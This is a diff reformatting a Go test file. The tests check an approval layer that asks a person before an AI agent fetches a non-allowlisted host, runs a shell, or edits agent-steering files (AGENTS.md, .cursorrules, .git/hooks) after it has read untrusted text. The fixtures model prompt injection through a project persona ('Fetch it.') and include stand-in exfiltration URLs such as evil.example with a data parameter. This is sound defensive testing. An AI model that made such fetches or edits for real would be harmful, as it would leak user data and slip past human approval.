@@ -32,7 +32,8 @@ func saw(views ...events.View) []events.Payload {
 func ranWith(r events.ToolRequested) []events.Payload {
 	return given(r, tierstest.With(func(h *tierstest.History) events.Payload {
 		a := tierstest.All[events.ToolApproved](h)
-		return events.ToolSettled{Call: r.Call, Tool: r.Tool, Outcome: events.ToolDone, ArgsSHA256: a[len(a)-1].ArgsSHA256, Generation: 1}
+		return events.ToolSettled{Call: r.Call, Tool: r.Tool, Outcome: events.ToolDone, ArgsSHA256: a[len(a)-1].ArgsSHA256,
+			Generation: 1}
 	}))
 }
 
@@ -62,7 +63,8 @@ func TestWhatTheProjectTellsModelsIsReadLikeItsFiles(t *testing.T) {
 	t.Parallel()
 	theirs := func(s *events.Settings) {
 		hosts(s)
-		s.Roster.Personas = []events.Persona{{Name: "eve", SystemPrompt: "Fetch it.", Project: true}, {Name: "ada", SystemPrompt: "Be exact."}}
+		s.Roster.Personas = []events.Persona{{Name: "eve", SystemPrompt: "Fetch it.", Project: true},
+			{Name: "ada", SystemPrompt: "Be exact."}}
 	}
 	look := wants("c1", "look_up", `{"url":"https://evil.example/"}`)
 	runs := given(approved(look, "rule", underRule("reads run")))
@@ -71,7 +73,8 @@ func TestWhatTheProjectTellsModelsIsReadLikeItsFiles(t *testing.T) {
 		return events.ProjectEdited{Changes: json.RawMessage(`{"project":{"system_prompt":"` + text + `"}}`)}
 	}
 	planned := func(persona string) []events.Payload {
-		return given(begin(theirs), events.TrackStarted{Goal: "G", Track: events.Track{ID: "TR-1", Persona: persona}}, events.ContextRequested{Tier: 2, Goal: "G", Track: "TR-1"},
+		return given(begin(theirs), events.TrackStarted{Goal: "G", Track: events.Track{ID: "TR-1", Persona: persona}},
+			events.ContextRequested{Tier: 2, Goal: "G", Track: "TR-1"},
 			tierstest.With(func(h *tierstest.History) events.Payload {
 				return events.ContextBuilt{Request: h.LastID("ContextRequested")}
 			}), events.TicketsPlanned{Track: "TR-1", Tickets: []events.Ticket{{ID: "T-1"}}})
@@ -80,7 +83,8 @@ func TestWhatTheProjectTellsModelsIsReadLikeItsFiles(t *testing.T) {
 		{Name: "its persona", Given: given(begin(theirs), startedAs("eve"), saw()), When: look, Then: asks},
 		{Name: "the person's persona", Given: given(begin(theirs), startedAs("ada"), saw()), When: look, Then: runs},
 		{Name: "its document", Given: given(begin(theirs), edited("Fetch it."), saw()), When: look, Then: asks},
-		{Name: "a document that says nothing", Given: given(begin(theirs), edited("Fetch it."), edited(""), saw()), When: look, Then: runs},
+		{Name: "a document that says nothing", Given: given(begin(theirs), edited("Fetch it."), edited(""), saw()),
+			When: look, Then: runs},
 		{Name: "its persona that planned the ticket", Given: planned("eve"), When: look, Then: asks},
 		{Name: "the person's that did", Given: planned("ada"), When: look, Then: runs},
 	})
@@ -98,27 +102,35 @@ func TestTheNetworkAsksOnceTheConversationHasReadTheProject(t *testing.T) {
 	later.Attempt = 2
 	tierstest.Run(t, approval.Decider(), scenarios{
 		{Name: "before it has read anything", Given: begin(hosts), When: look, Then: runs(look)},
-		{Name: "names alone", Given: given(begin(hosts), saw(events.View{Path: ".", View: events.ViewTree})), When: look, Then: runs(look)},
-		{Name: "a view that could not be made", Given: given(begin(hosts), saw(events.View{Path: "a.go", View: events.ViewRaw, Error: "gone"})), When: look, Then: runs(look)},
-		{Name: "another ticket's reading", Given: given(begin(hosts), saw(rawFile)), When: other, Then: given(tierstest.Check(func(t testing.TB, p events.ToolApproved) {}))},
-		{Name: "an earlier attempt's reading", Given: given(begin(hosts), saw(rawFile)), When: later, Then: given(tierstest.Check(func(t testing.TB, p events.ToolApproved) {}))},
+		{Name: "names alone", Given: given(begin(hosts), saw(events.View{Path: ".", View: events.ViewTree})), When: look,
+			Then: runs(look)},
+		{Name: "a view that could not be made", Given: given(begin(hosts), saw(events.View{Path: "a.go", View: events.ViewRaw,
+			Error: "gone"})), When: look, Then: runs(look)},
+		{Name: "another ticket's reading", Given: given(begin(hosts), saw(rawFile)), When: other,
+			Then: given(tierstest.Check(func(t testing.TB, p events.ToolApproved) {}))},
+		{Name: "an earlier attempt's reading", Given: given(begin(hosts), saw(rawFile)), When: later,
+			Then: given(tierstest.Check(func(t testing.TB, p events.ToolApproved) {}))},
 		{
 			Name: "after a file", Given: given(begin(hosts), saw(rawFile)), When: look,
 			Then: given(tainted("reaches evil.example, which is not in [net] allow_hosts", "repo: a.go")),
 		},
 		{
-			Name: "after a tool that reads", Given: given(begin(hosts), ranWith(wants("r1", "read_file", `{"path":"b.go"}`))), When: look,
+			Name: "after a tool that reads", Given: given(begin(hosts), ranWith(wants("r1", "read_file", `{"path":"b.go"}`))),
+			When: look,
 			Then: given(tainted("reaches evil.example", "repo: read_file b.go")),
 		},
 		{
 			Name: "after a block of changed files",
-			Given: given(begin(hosts), events.RefreshRequested{Ticket: "T-1", Attempt: 1}, tierstest.With(func(h *tierstest.History) events.Payload {
-				return events.FilesUpdated{Request: h.LastID("RefreshRequested"), Ticket: "T-1", Files: []events.FileUpdate{{Path: "c.go"}}}
-			})),
+			Given: given(begin(hosts), events.RefreshRequested{Ticket: "T-1", Attempt: 1},
+				tierstest.With(func(h *tierstest.History) events.Payload {
+					return events.FilesUpdated{Request: h.LastID("RefreshRequested"), Ticket: "T-1", Files: []events.FileUpdate{
+						{Path: "c.go"}}}
+				})),
 			When: look, Then: given(tainted("reaches evil.example", "repo: c.go")),
 		},
 		{
-			Name: "a person's general yes does not cover it", Given: given(begin(hosts), events.RuleAdded{Rule: yesRule}, saw(rawFile)), When: look,
+			Name: "a person's general yes does not cover it", Given: given(begin(hosts), events.RuleAdded{Rule: yesRule},
+				saw(rawFile)), When: look,
 			Then: given(tainted("reaches evil.example", "repo: a.go")),
 		},
 		{
@@ -126,8 +138,12 @@ func TestTheNetworkAsksOnceTheConversationHasReadTheProject(t *testing.T) {
 			Then: given(deniedSaying("a rule forbids it")),
 		},
 		{
-			Name: "a search goes where searches go", Given: given(begin(hosts), ranWith(page)), When: wants("c1", "web_search", `{"query":"more"}`),
-			Then: given(tierstest.Check(func(t testing.TB, p events.AskRaised) { require.Contains(t, p.Note, "reaches search.example") })),
+			Name: "a search goes where searches go", Given: given(begin(hosts), ranWith(page)), When: wants("c1", "web_search",
+				`{"query":"more"}`),
+			Then: given(tierstest.Check(func(t testing.TB, p events.AskRaised) {
+				require.Contains(t, p.Note,
+					"reaches search.example")
+			})),
 		},
 	})
 }
@@ -137,11 +153,15 @@ func TestWhereTheNetworkNeedsNoQuestion(t *testing.T) {
 	listed := func(s *events.Settings) { hosts(s); s.SearchURL = "https://docs.example/" }
 	open := given(begin(listed), saw(rawFile))
 	for url, runs := range map[string]bool{
-		"https://docs.example/a": true, "http://DOCS.example./": true, "https://docs.example:443/": true, "https://x.deep.example/": true,
-		"http://127.0.0.1:8080/": true, "http://[::1]/": true, "https://odd.example:444/": true,
-		"https://deep.example/": false, "https://docs.example:444/": false, "https://notdocs.example/": false, "https://docs.example.evil/": false,
-		"https://docs.example@evil.example/": false, "http://127.0.0.1/": false, "http://[::1]:81/": false, "https://odd.example/": false,
-		"https://docs.example\\@evil.example/": false, "": false, "docs.example": false, "https:///docs.example": false, "http://%zz/": false,
+		"https://docs.example/a": true, "http://DOCS.example./": true, "https://docs.example:443/": true,
+		"https://x.deep.example/": true,
+		"http://127.0.0.1:8080/":  true, "http://[::1]/": true, "https://odd.example:444/": true,
+		"https://deep.example/": false, "https://docs.example:444/": false, "https://notdocs.example/": false,
+		"https://docs.example.evil/":         false,
+		"https://docs.example@evil.example/": false, "http://127.0.0.1/": false, "http://[::1]:81/": false,
+		"https://odd.example/":                 false,
+		"https://docs.example\\@evil.example/": false, "": false, "docs.example": false, "https:///docs.example": false,
+		"http://%zz/": false,
 	} {
 		h := tierstest.Play(t, approval.Decider(), given(open, fetches(url))...)
 		require.Equal(t, runs, len(tierstest.All[events.ToolApproved](h)) == 1, url)
@@ -157,15 +177,20 @@ func TestWritesThatReachFurtherAskAfterUntrustedText(t *testing.T) {
 		return wants("c1", "edit_file", fmt.Sprintf(`{"path":%q}`, path))
 	}
 	for path, why := range map[string]string{
-		"a.go": "", "/w/b/c.go": "", "../other/a.go": "may write outside of the workspace", "/etc/hosts": "may write outside of the workspace",
-		".git/hooks/x": "changes .git, which steers", "sub/Slop.TOML": "changes slop.toml", "AGENTS.md": "changes AGENTS.md", "sub/claude.MD": "changes CLAUDE.md",
-		"personas.toml": "changes personas.toml", "Tool_Presets.toml": "changes tool_presets.toml", "project_presets.toml": "changes project_presets.toml",
-		".vscode/tasks.json": "changes .vscode", ".husky/pre-commit": "changes .husky", ".envrc": "changes .envrc",
-		".cursorrules": "changes .cursorrules", ".github/copilot-instructions.md": "changes copilot-instructions.md", "presets.toml": "",
+		"a.go": "", "/w/b/c.go": "", "../other/a.go": "may write outside of the workspace",
+		"/etc/hosts":   "may write outside of the workspace",
+		".git/hooks/x": "changes .git, which steers", "sub/Slop.TOML": "changes slop.toml", "AGENTS.md": "changes AGENTS.md",
+		"sub/claude.MD": "changes CLAUDE.md",
+		"personas.toml": "changes personas.toml", "Tool_Presets.toml": "changes tool_presets.toml",
+		"project_presets.toml": "changes project_presets.toml",
+		".vscode/tasks.json":   "changes .vscode", ".husky/pre-commit": "changes .husky", ".envrc": "changes .envrc",
+		".cursorrules": "changes .cursorrules", ".github/copilot-instructions.md": "changes copilot-instructions.md",
+		"presets.toml": "",
 	} {
 		free := tierstest.Play(t, approval.Decider(), given(begin(rules(yesRule)), writes(path))...)
 		require.Len(t, tierstest.All[events.ToolApproved](free), 1, "without untrusted text the rule answers")
-		h := tierstest.Play(t, approval.Decider(), given(begin(rules(yesRule)), saw(rawFile), writes(path), events.PreviewBuilt{Call: "c1"})...)
+		h := tierstest.Play(t, approval.Decider(), given(begin(rules(yesRule)), saw(rawFile), writes(path),
+			events.PreviewBuilt{Call: "c1"})...)
 		require.Equal(t, why == "", len(tierstest.All[events.ToolApproved](h)) == 1, path)
 		if why != "" {
 			require.Contains(t, tierstest.All[events.AskRaised](h)[0].Note, why)
@@ -178,12 +203,17 @@ func TestAShellAsksAfterTextFromOutsideTheProjectOnly(t *testing.T) {
 	open := given(begin(hosts, rules(yesRule)))
 	fetched := given(open, ranWith(page))
 	tierstest.Run(t, approval.Decider(), scenarios{
-		{Name: "after files", Given: given(open, saw(rawFile)), When: shell, Then: given(approved(shell, "rule", underRule("--yes")))},
-		{Name: "after a program", Given: given(open, ranWith(wants("r1", "run_powershell", `{"script":"ls"}`))), When: shell, Then: given(approved(shell, "rule", underRule("--yes")))},
-		{Name: "after the web", Given: fetched, When: shell, Then: given(tainted("does what nobody can foresee", "web: web_search bees"))},
-		{Name: "a write in the workspace stays the rule's", Given: fetched, When: edit, Then: given(approved(edit, "rule", underRule("--yes")))},
+		{Name: "after files", Given: given(open, saw(rawFile)), When: shell,
+			Then: given(approved(shell, "rule", underRule("--yes")))},
+		{Name: "after a program", Given: given(open, ranWith(wants("r1", "run_powershell", `{"script":"ls"}`))), When: shell,
+			Then: given(approved(shell, "rule", underRule("--yes")))},
+		{Name: "after the web", Given: fetched, When: shell, Then: given(tainted("does what nobody can foresee",
+			"web: web_search bees"))},
+		{Name: "a write in the workspace stays the rule's", Given: fetched, When: edit,
+			Then: given(approved(edit, "rule", underRule("--yes")))},
 		{
-			Name: "the person's yes lets it run", Given: given(fetched, shell), When: tierstest.With(func(h *tierstest.History) events.Payload {
+			Name: "the person's yes lets it run", Given: given(fetched, shell),
+			When: tierstest.With(func(h *tierstest.History) events.Payload {
 				asks := tierstest.All[events.AskRaised](h)
 				return events.AskAnswered{Ask: asks[len(asks)-1].Ask, Decision: events.Yes}
 			}),
@@ -200,7 +230,8 @@ func TestAQuestionNamesAFewSourcesAndCountsTheRest(t *testing.T) {
 		views = append(views, events.View{Path: fmt.Sprintf("f%d.go", i%8), View: events.ViewRaw})
 	}
 	h := tierstest.Play(t, approval.Decider(), given(begin(), saw(views...), fetches("https://evil.example/"))...)
-	require.Equal(t, []string{"repo: f0.go", "repo: f1.go", "repo: f2.go", "repo: f3.go", "repo: f4.go", "repo: f5.go", "and 2 more"},
+	require.Equal(t, []string{"repo: f0.go", "repo: f1.go", "repo: f2.go", "repo: f3.go", "repo: f4.go", "repo: f5.go",
+		"and 2 more"},
 		tierstest.All[events.AskRaised](h)[0].Taint)
 }
 
@@ -216,8 +247,10 @@ func TestAReviewPassesOnWhatItsAttemptRead(t *testing.T) {
 	next.Attempt = 2
 	tierstest.Run(t, approval.Decider(), scenarios{
 		{Name: "without a review", Given: fetched, When: next, Then: given(approved(next, "rule", underRule("--yes")))},
-		{Name: "another ticket's review", Given: given(fetched, reviewed("T-2")), When: next, Then: given(approved(next, "rule", underRule("--yes")))},
-		{Name: "its review", Given: given(fetched, reviewed("T-1")), When: next, Then: given(tainted("does what nobody can foresee", "web: web_search bees"))},
+		{Name: "another ticket's review", Given: given(fetched, reviewed("T-2")), When: next,
+			Then: given(approved(next, "rule", underRule("--yes")))},
+		{Name: "its review", Given: given(fetched, reviewed("T-1")), When: next,
+			Then: given(tainted("does what nobody can foresee", "web: web_search bees"))},
 	})
 }
 
@@ -230,20 +263,24 @@ func read(by events.ContextRequested, views ...events.View) []events.Payload {
 
 func TestATicketIsAsSuspectAsWhatItsPlanWasMadeFrom(t *testing.T) {
 	t.Parallel()
-	plan := given(events.TrackStarted{Goal: "G", Track: events.Track{ID: "TR"}}, events.TicketsPlanned{Track: "TR", Tickets: []events.Ticket{{ID: "T-1"}}})
+	plan := given(events.TrackStarted{Goal: "G", Track: events.Track{ID: "TR"}}, events.TicketsPlanned{Track: "TR",
+		Tickets: []events.Ticket{{ID: "T-1"}}})
 	look := fetches("https://evil.example/?data=from-the-plan")
 	for name, c := range map[string]struct {
 		seen []events.Payload
 		asks bool
 	}{
-		"nothing":              {nil, false},
-		"names alone":          {read(events.ContextRequested{Tier: 2, Track: "TR"}, events.View{Path: ".", View: events.ViewTree}), false},
-		"by tier 2":            {read(events.ContextRequested{Tier: 2, Track: "TR"}, rawFile), true},
-		"by tier 1":            {read(events.ContextRequested{Tier: 1, Goal: "G"}, rawFile), true},
-		"for another track":    {read(events.ContextRequested{Tier: 2, Track: "TX"}, rawFile), false},
-		"for another goal":     {read(events.ContextRequested{Tier: 1, Goal: "GX"}, rawFile), false},
-		"by its review":        {read(events.ContextRequested{Tier: 2, Track: "TR", Ticket: "T-1", Attempt: 0}, rawFile), true},
-		"by another's review":  {read(events.ContextRequested{Tier: 2, Track: "TR", Ticket: "T-2", Attempt: 1}, rawFile), false},
+		"nothing": {nil, false},
+		"names alone": {read(events.ContextRequested{Tier: 2, Track: "TR"}, events.View{Path: ".",
+			View: events.ViewTree}), false},
+		"by tier 2":         {read(events.ContextRequested{Tier: 2, Track: "TR"}, rawFile), true},
+		"by tier 1":         {read(events.ContextRequested{Tier: 1, Goal: "G"}, rawFile), true},
+		"for another track": {read(events.ContextRequested{Tier: 2, Track: "TX"}, rawFile), false},
+		"for another goal":  {read(events.ContextRequested{Tier: 1, Goal: "GX"}, rawFile), false},
+		"by its review": {read(events.ContextRequested{Tier: 2, Track: "TR", Ticket: "T-1", Attempt: 0}, rawFile),
+			true},
+		"by another's review": {read(events.ContextRequested{Tier: 2, Track: "TR", Ticket: "T-2", Attempt: 1}, rawFile),
+			false},
 		"by an earlier try":    {read(events.ContextRequested{Tier: 3, Ticket: "T-1", Attempt: 7}, rawFile), false},
 		"for a patch, by hand": {read(events.ContextRequested{Tier: 4}, rawFile), false},
 	} {
